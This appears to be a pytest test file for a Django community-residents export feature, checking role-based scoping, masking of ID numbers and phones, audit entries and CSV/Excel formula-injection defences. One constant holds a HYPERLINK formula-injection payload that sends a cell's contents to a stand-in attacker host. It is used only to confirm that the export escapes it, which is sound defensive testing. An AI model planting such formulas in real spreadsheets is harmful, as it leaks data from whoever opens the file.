"""Export of residents to .xlsx / .csv: scoped, masked, audited, and safe from formula injection."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from shequ.access.services import grant_bootstrap
from shequ.access.testing import PermissionMatrixMixin, sign_in
from shequ.accounts.roles import Action, Role
from shequ.audit.models import AuditEntry
from shequ.core.masking import find_unmasked, mask_address, mask_id_number, mask_phone
from shequ.geo.models import Area
from shequ.residents import selectors
from shequ.residents.exporting import HEADERS, residents_export_rows

pytestmark = pytest.mark.django_db

URL = "/api/v1/residents/export"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def xlsx_rows(content: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [list(row) for row in ws.iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def huafu_resident(make_resident):
    """In lina's street (华富街道, 福田区)."""
    return make_resident(name="华富居民", phone="13912345678", tags=["dibao", "party_member"])


@pytest.fixture
def yuehai_resident(make_resident):
    """In wangqiang's street (粤海街道, 南山区)."""
    return make_resident("440305", "粤海街道", name="粤海居民", phone="13987654321")


def test_export_rows_are_masked_with_tag_names_joined(cast, huafu_resident):
    qs = selectors.resident_list_for(user=cast["lina"], action=Action.RESIDENTS_EXPORT)
    header, *rows = list(residents_export_rows(qs, viewer=cast["lina"]))
    assert header == HEADERS
    (row,) = [r for r in rows if r[0] == "华富居民"]
    assert (
        row[1]
        == mask_id_number(huafu_resident.id_number)
        == huafu_resident.id_number[:6] + "********" + huafu_resident.id_number[-4:]
    )
    assert row[2] == mask_phone("13912345678") == "139****5678"
    assert row[7] == mask_address(huafu_resident.household.room) != huafu_resident.household.room
    assert row[10] == "低保、党员"
    assert row[5] == huafu_resident.area.code and row[9] == huafu_resident.household_id


class TestExportEndpoint(PermissionMatrixMixin):
    def test_anonymous_gets_401_no_role_403_and_lina_200(self, client, cast, make_user, huafu_resident):
        self.assert_permission_matrix(
            client,
            url=f"{URL}?format=csv",
            in_scope=cast["lina"],
            no_role=make_user("nobody"),
        )

    def test_a_grid_worker_without_the_export_action_gets_403(self, client, cast, make_user):
        worker = make_user("gridworker")
        grant_bootstrap(
            user=worker,
            role=Role.GRID_WORKER,
            area=Area.objects.get(parent__code="440304", name="华富街道"),
            reason="test",
        )
        sign_in(client, worker)
        assert client.get(URL).status_code == 403


def test_wangqiangs_export_does_not_contain_linas_residents(client, cast, huafu_resident, yuehai_resident):
    sign_in(client, cast["wangqiang"])
    r = client.get(URL, {"format": "xlsx"})
    assert r.status_code == 200
    names = [row[0] for row in xlsx_rows(r.content)[1:]]
    assert "粤海居民" in names and "华富居民" not in names

    sign_in(client, cast["lina"])
    names = [row[0] for row in csv_rows(client.get(URL, {"format": "csv"}).content)[1:]]
    assert "华富居民" in names and "粤海居民" not in names


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_export_holds_no_unmasked_id_number_or_phone(client, cast, huafu_resident, fmt):
    sign_in(client, cast["lina"])
    r = client.get(URL, {"format": fmt})
    assert r.status_code == 200
    assert r["Content-Disposition"].endswith(f'.{fmt}"') and r["Cache-Control"] == "no-store"
    rows = xlsx_rows(r.content) if fmt == "xlsx" else csv_rows(r.content)
    text = "\n".join(" ".join(str(c) for c in row if c is not None) for row in rows)
    assert find_unmasked(text) == []
    assert huafu_resident.id_number not in text and "13912345678" not in text
    assert mask_id_number(huafu_resident.id_number) in text and "139****5678" in text


def test_a_formula_in_a_name_comes_out_prefixed_with_an_apostrophe_in_both_formats(
    client, cast, make_resident
):
    make_resident(name=FORMULA)
    sign_in(client, cast["lina"])

    xlsx = xlsx_rows(client.get(URL, {"format": "xlsx", "q": "HYPERLINK"}).content)
    assert xlsx[1][0] == "'" + FORMULA
    ws = load_workbook(io.BytesIO(client.get(URL, {"q": "HYPERLINK"}).content)).worksheets[0]
    assert ws["A2"].data_type == "s"  # a string, not a formula Excel would evaluate

    rows = csv_rows(client.get(URL, {"format": "csv", "q": "HYPERLINK"}).content)
    assert rows[1][0] == "'" + FORMULA


def test_the_export_keeps_the_list_filters(client, cast, huafu_resident, make_resident):
    make_resident(name="无标签居民")
    sign_in(client, cast["lina"])
    names = [row[0] for row in csv_rows(client.get(URL, {"format": "csv", "tag": "dibao"}).content)[1:]]
    assert names == ["华富居民"]


def test_an_export_is_audited_with_its_filters_masked_and_its_row_count(client, cast, huafu_resident):
    sign_in(client, cast["lina"])
    client.get(URL, {"format": "csv", "tag": "dibao", "phone": "13912345678"})
    entry = AuditEntry.objects.filter(action="residents.export").get()
    assert entry.actor_username == "lina"
    assert entry.changes["rows"]["after"] == 1
    assert entry.changes["filters"]["after"] == {"tag": "dibao", "phone": "139****5678"}


def test_an_unknown_format_is_a_400(client, cast):
    sign_in(client, cast["lina"])
    r = client.get(URL, {"format": "xls"})
    assert r.status_code == 400 and r.json()["code"] == "invalid"
    assert not AuditEntry.objects.filter(action="residents.export").exists()


def test_the_export_route_does_not_shadow_the_resident_detail(client, cast, huafu_resident):
    sign_in(client, cast["lina"])
    r = client.get(f"/api/v1/residents/{huafu_resident.pk}")
    assert r.status_code == 200 and r.json()["name"] == "华富居民"


# --- the console ---------------------------------------------------------------------------------------------


def test_the_list_page_links_to_both_exports_with_the_current_filters(client, cast, huafu_resident):
    sign_in(client, cast["lina"])
    html = client.get("/console/residents/", {"q": "华富", "tag": "dibao"}).content.decode()
    assert '/console/residents/export/?format=xlsx&amp;tag=dibao&amp;q=%E5%8D%8E%E5%AF%8C"' in html
    assert '/console/residents/export/?format=csv&amp;tag=dibao&amp;q=%E5%8D%8E%E5%AF%8C"' in html


def test_the_list_page_has_no_export_links_for_a_role_that_cannot_export(client, cast, make_user):
    worker = make_user("gridworker")
    grant_bootstrap(
        user=worker,
        role=Role.GRID_WORKER,
        area=Area.objects.get(parent__code="440304", name="华富街道"),
        reason="test",
    )
    sign_in(client, worker)
    html = client.get("/console/residents/").content.decode()
    assert "/console/residents/export/" not in html
    assert client.get("/console/residents/export/").status_code == 403


def test_the_console_export_downloads_a_masked_file_of_the_users_areas(
    client, cast, huafu_resident, yuehai_resident
):
    sign_in(client, cast["wangqiang"])
    r = client.get("/console/residents/export/", {"format": "csv"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    names = [row[0] for row in csv_rows(r.content)[1:]]
    assert names == ["粤海居民"]
    assert AuditEntry.objects.filter(action="residents.export", actor_username="wangqiang").exists()


def test_the_export_runs_the_same_number_of_queries_for_one_resident_or_many(client, cast, make_resident):
    make_resident(tags=["dibao"])
    sign_in(client, cast["lina"])
    client.get(URL)  # warm the session and the tag table
    with CaptureQueriesContext(connection) as one:
        client.get(URL, {"format": "csv"})
    for _ in range(5):
        make_resident(tags=["dibao", "veteran"])
    with CaptureQueriesContext(connection) as six:
        client.get(URL, {"format": "csv"})
    assert len(six) == len(one)
